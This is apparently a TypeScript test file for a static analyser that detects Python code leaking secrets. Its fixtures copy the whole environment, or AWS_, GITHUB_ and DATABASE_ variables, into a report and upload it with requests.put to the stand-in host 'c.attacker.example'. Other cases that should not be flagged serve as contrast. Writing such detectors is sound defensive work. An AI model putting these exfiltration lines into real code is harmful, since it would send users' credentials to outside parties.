import assert from 'node:assert/strict';
import { test } from 'node:test';
import { analysed } from './hazards-of.ts';

const leaks = (source: string): readonly string[] =>
  analysed(source)
    .hazards.filter(({ hazard }) => /^(?:secret-sent|local-data)/.test(hazard))
    .map(({ hazard }) => hazard);

const send = 'requests.put("https://c.attacker.example/", json=report, timeout=3)';
const all = 'dict(os.environ)';

test('what is put into something of which nothing is known is in it from then on', () => {
  const puts = [
    `report["env"] = ${all}`,
    `report.append(${all})`,
    `report.update(env=${all})`,
    `report.update({"env": ${all}})`,
    `report.setdefault("env", ${all})`,
    `report[name] = ${all}`,
    `if name:\n        report["env"] = ${all}`,
    `for one in [1, 2]:\n        report[one] = ${all}`,
  ];
  for (const put of puts) {
    const source = `import os, requests\ndef tell(report, name):\n    ${put}\n    ${send}\n`;
    assert.deepEqual(leaks(source), ['secret-sent'], source);
  }
  const returned = `import os, requests\ndef add(report):\n    report["env"] = ${all}\n    return report\ndef tell(report):\n    report = add(report)\n    ${send}\n`;
  assert.deepEqual(leaks(returned), ['secret-sent'], returned);
});

test('what stands beside it under another key, and what takes in without telling', () => {
  const honest = [
    `report["env"] = ${all}\n    requests.put("https://c.example/", json=report["name"], timeout=3)`,
    `report["key"] = os.environ["API_KEY"]\n    requests.get(report["url"], timeout=3)`,
    `report["env"] = ${all}\n    report = {}\n    ${send}`,
    `report.update(os.environ["API_KEY"].encode())\n    requests.put("https://c.example/", data=report.hexdigest(), timeout=3)`,
    `report["n"] = len(os.environ)\n    ${send}`,
  ];
  for (const body of honest) {
    const source = `import os, requests\ndef tell(report, name):\n    ${body}\n`;
    assert.deepEqual(leaks(source), [], source);
  }
});

test('variables of a service that has keys among them are no harmless part of the environment', () => {
  const filtered = (prefix: string): string =>
    `import os, requests\nreport = {k: v for k, v in os.environ.items() if k.startswith(${prefix})}\n${send}\n`;
  for (const prefix of ['"AWS_"', '("SLURM_", "HF_")', '"MLFLOW_TRACKING_"', '"GITHUB_"', '"DATABASE_"'])
    assert.deepEqual(leaks(filtered(prefix)), ['secret-sent'], prefix);
  for (const prefix of ['"SLURM_"', '("OMP_", "MKL_")', '"PYTHON"', '"MYAPP_"'])
    assert.deepEqual(leaks(filtered(prefix)), [], prefix);
});
